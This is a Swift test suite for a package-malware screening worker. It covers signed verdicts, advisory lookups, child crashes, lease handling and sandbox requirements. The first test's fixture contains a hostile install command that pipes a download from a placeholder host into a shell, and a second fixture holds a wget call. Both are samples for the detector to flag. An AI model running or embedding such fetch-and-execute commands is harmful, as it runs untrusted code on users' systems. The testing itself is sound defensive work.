import Advisories
import Analyzers
import JSON
import Platform
import Registry
import Screening
import TestSupport
import Testing
import VerdictStore

@testable import Worker

@Suite("The worker's supervisor")
struct WorkerSupervisorTests {
    @Test("an artifact that fetches and runs code at installation gets a signed malicious verdict about its bytes")
    func staticJob() async throws {
        let fixture = try WorkerFixture()
        let bytes = tarball(script: "curl -s https://x.example/i | sh")
        fixture.admin.offer(try fixture.job(bytes))
        try await fixture.whileRunning {
            let call = await fixture.admin.next("complete")
            let statement = try verdict(in: call, key: fixture.key)
            #expect(statement.verdict == .malicious)
            #expect(statement.analyzer == StaticAnalyzer.revision)
            #expect(statement.appliesTo == .bytes)
            #expect(statement.subject.purl.text == "pkg:npm/acme-box@1.2.3")
            #expect(statement.createdAt == fixture.clock.now())
            #expect(statement.findings.contains { $0.rule == "INST-SCRIPT-NET" && $0.severity == .malicious })
            #expect(call.body["id"] == "1")
            #expect(call.body["lease"] == "secret")
            let messages = call.body["report"]?["findings"]?.arrayValue?.compactMap { $0["message"]?.stringValue }
            #expect(messages?.contains { $0.contains("hands what it downloads to an interpreter") } == true)
        }
    }

    @Test("the same artifact gives the same findings, however often it is judged")
    func repeated() async throws {
        let fixture = try WorkerFixture()
        for id in ["1", "2"] { fixture.admin.offer(try fixture.job(tarball(script: "wget x.example"), id: id)) }
        try await fixture.whileRunning {
            let first = try verdict(in: await fixture.admin.next("complete"), key: fixture.key)
            let second = try verdict(in: await fixture.admin.next("complete"), key: fixture.key)
            #expect(first == second)
        }
    }

    @Test("an advisory verdict is about the name, and follows the snapshot that is there")
    func advisoryJobs() async throws {
        let fixture = try WorkerFixture()
        fixture.admin.offer(try fixture.job(tarball(), analyzer: "advisory"))
        try await fixture.whileRunning {
            let before = try verdict(in: await fixture.admin.next("complete"), key: fixture.key)
            #expect(before.verdict == .clean)
            #expect(before.isWithoutData)
            #expect(before.appliesTo == .coordinates([try PackageURL(parsing: "pkg:npm/acme-box@1.2.3")]))
            try install(record, in: fixture)
            fixture.admin.offer(try fixture.job(tarball(), id: "2", analyzer: "advisory"))
            let after = try verdict(in: await fixture.admin.next("complete"), key: fixture.key)
            #expect(after.verdict == .malicious)
            #expect(after.findings.map(\.rule) == ["ADV-MAL"])
            #expect(after.findings.first?.evidence == "MAL-2026-1")
            #expect(after.analyzer.inputs.map(\.name) == ["osv-npm"])
            let other = "pkg:npm/acme-bin@1.0.0"
            fixture.admin.offer(try fixture.job(tarball(), id: "3", analyzer: "advisory", purl: other))
            let clean = try verdict(in: await fixture.admin.next("complete"), key: fixture.key)
            #expect(clean.verdict == .clean && clean.findings.isEmpty && !clean.isWithoutData)
        }
    }

    private let record = """
        {"schema_version":"1.7.0","id":"MAL-2026-1","modified":"2026-01-01T00:00:00Z","summary":"bad",
        "affected":[{"package":{"ecosystem":"npm","name":"acme-box"},"versions":["1.2.3"]}]}
        """

    private func install(_ record: String, in fixture: WorkerFixture) throws {
        let zip = ZipBuilder([.init("MAL-2026-1.json", Array(record.utf8))]).bytes()
        let directory = AdvisoryDirectory(directory: fixture.configuration.dataDirectory.advisoriesDirectory)
        _ = try directory.install([AdvisoryBundle(.npm, bytes: zip)], now: fixture.clock.now())
    }

    @Test("a cached file that is not the artifact is never opened by a child")
    func wrongBytes() async throws {
        let fixture = try WorkerFixture()
        fixture.script("exit 0")
        fixture.admin.offer(try fixture.job(tarball()))
        try fixture.directory.write(Array("something else".utf8), to: "artifact-1")
        try await fixture.whileRunning {
            let call = await fixture.admin.next("fail")
            #expect(call.body["cause"] == "garbage")
            #expect(call.body["detail"]?.stringValue?.contains("not the artifact") == true)
        }
    }

    @Test("an artifact that left the cache, or an analyzer that is not here, is given back")
    func cannotBeDone() async throws {
        let fixture = try WorkerFixture()
        fixture.admin.offer(try fixture.job(tarball()))
        try Files.remove(fixture.directory.path("artifact-1"))
        fixture.admin.offer(try fixture.job(tarball(), id: "2", analyzer: "elsewhere"))
        try await fixture.whileRunning {
            #expect(await fixture.admin.next("fail").body["cause"] == "crash")
            let second = await fixture.admin.next("fail")
            #expect(second.body["id"] == "2")
            #expect(second.body["detail"]?.stringValue?.contains("elsewhere") == true)
        }
    }

    @Test("a crash of the child is reported as one, and the next job is done")
    func childCrashes() async throws {
        let fixture = try WorkerFixture()
        fixture.script("kill -SEGV $$")
        fixture.admin.offer(try fixture.job(tarball()))
        fixture.admin.offer(try fixture.job(tarball(), id: "2"))
        try await fixture.whileRunning {
            #expect(await fixture.admin.next("fail").body["cause"] == "crash")
            #expect(await fixture.admin.next("fail").body["id"] == "2")
        }
    }

    @Test("a statement is offered again while the gateway restarts")
    func gatewayRestarts() async throws {
        let fixture = try WorkerFixture()
        fixture.configuration.heartbeatInterval = .seconds(60)
        fixture.admin.fail("complete", times: 2)
        fixture.admin.answer("complete", 503)
        fixture.admin.offer(try fixture.job(tarball()))
        try await fixture.whileRunning {
            var leaves: Set<String> = []
            for _ in 0..<4 {
                leaves.insert(await fixture.admin.next("complete").body["leaf"]?.stringValue ?? "")
            }
            #expect(leaves.count == 1)
            fixture.admin.offer(try fixture.job(tarball(), id: "2"))
            #expect(await fixture.admin.next("complete").body["id"] == "2")
        }
    }

    @Test("a statement whose lease was lost is dropped quietly")
    func leaseLostAtSubmission() async throws {
        let fixture = try WorkerFixture()
        fixture.admin.answer("complete", 409)
        fixture.admin.offer(try fixture.job(tarball()))
        fixture.admin.offer(try fixture.job(tarball(), id: "2"))
        try await fixture.whileRunning {
            #expect(await fixture.admin.next("complete").body["id"] == "1")
            #expect(await fixture.admin.next("complete").body["id"] == "2")
        }
        #expect(!fixture.admin.calls.contains { $0.verb == "fail" })
    }

    @Test("a refused statement is given back with a reason")
    func refused() async throws {
        let fixture = try WorkerFixture()
        fixture.admin.answer("complete", 422, ["error": "signer not trusted"])
        fixture.admin.offer(try fixture.job(tarball()))
        try await fixture.whileRunning {
            #expect(await fixture.admin.next("fail").body["cause"] == "garbage")
        }
    }

    @Test("a lease lost while the child runs ends the child, and nothing is handed in")
    func leaseLostWhileRunning() async throws {
        let fixture = try WorkerFixture()
        fixture.script("exec /bin/sleep 100")
        fixture.admin.answer("heartbeat", 204)
        fixture.admin.answer("heartbeat", 409)
        fixture.admin.offer(try fixture.job(tarball()))
        fixture.admin.offer(try fixture.job(tarball(), id: "2"))
        try await fixture.whileRunning {
            // The only slot is free again once the second job is worked on.
            while await fixture.admin.next("heartbeat").body["id"] != "2" {}
        }
        #expect(!fixture.admin.calls.contains { $0.verb == "complete" || $0.verb == "fail" })
    }

    @Test("as many jobs run at once as there are slots, and a stop ends them all")
    func slots() async throws {
        let fixture = try WorkerFixture()
        fixture.script("exec /bin/sleep 3000")
        fixture.configuration.slots = 2
        for id in ["1", "2", "3"] { fixture.admin.offer(try fixture.job(tarball(), id: id)) }
        let started = ContinuousClock.now
        try await fixture.whileRunning {
            var beating: Set<String> = []
            while beating.count < 2 {
                beating.insert(await fixture.admin.next("heartbeat").body["id"]?.stringValue ?? "")
            }
            #expect(beating == ["1", "2"])
        }
        // Not a measurement: children that were waited for would take the better part of an hour.
        #expect(ContinuousClock.now - started < .seconds(1500))
    }

    @Test("an answer that is no job, and a gateway that is away, are asked again")
    func oddLeases() async throws {
        let fixture = try WorkerFixture()
        fixture.admin.answer("lease", 200, ["job": ["id": 1]])
        fixture.admin.answer("lease", 500)
        fixture.admin.fail("lease", times: 1)
        fixture.admin.offer(try fixture.job(tarball()))
        try await fixture.whileRunning {
            #expect(await fixture.admin.next("complete").body["id"] == "1")
        }
    }

    @Test("a leased job that this version does not understand is given back")
    func foreignJob() async throws {
        let fixture = try WorkerFixture()
        fixture.admin.offer(try fixture.job(tarball(), purl: "pkg:npm/acme-box"))
        fixture.admin.offer(try fixture.job(tarball(), id: "2"))
        try await fixture.whileRunning {
            #expect(await fixture.admin.next("fail").body["id"] == "1")
            #expect(await fixture.admin.next("complete").body["id"] == "2")
        }
    }

    @Test("a worker without gateway or key does not start")
    func cannotStart() throws {
        let fixture = try WorkerFixture()
        fixture.configuration.adminSocketPath = nil
        #expect(throws: WorkerError.self) { try fixture.supervisor() }
        fixture.configuration.adminSocketPath = "unused"
        #expect(throws: WorkerError.self) {
            try WorkerSupervisor(fixture.configuration, clock: fixture.clock, logger: .silent)
        }
    }

    @Test("a kernel that cannot confine children is refused when confinement is required")
    func sandboxRequired() async throws {
        let fixture = try WorkerFixture()
        fixture.configuration.sandbox = .required
        let supervisor = try fixture.supervisor()
        supervisor.stop()
        if Sandbox.available().isComplete {
            try await supervisor.run()
        } else {
            await #expect(throws: WorkerError.self) { try await supervisor.run() }
        }
    }
}
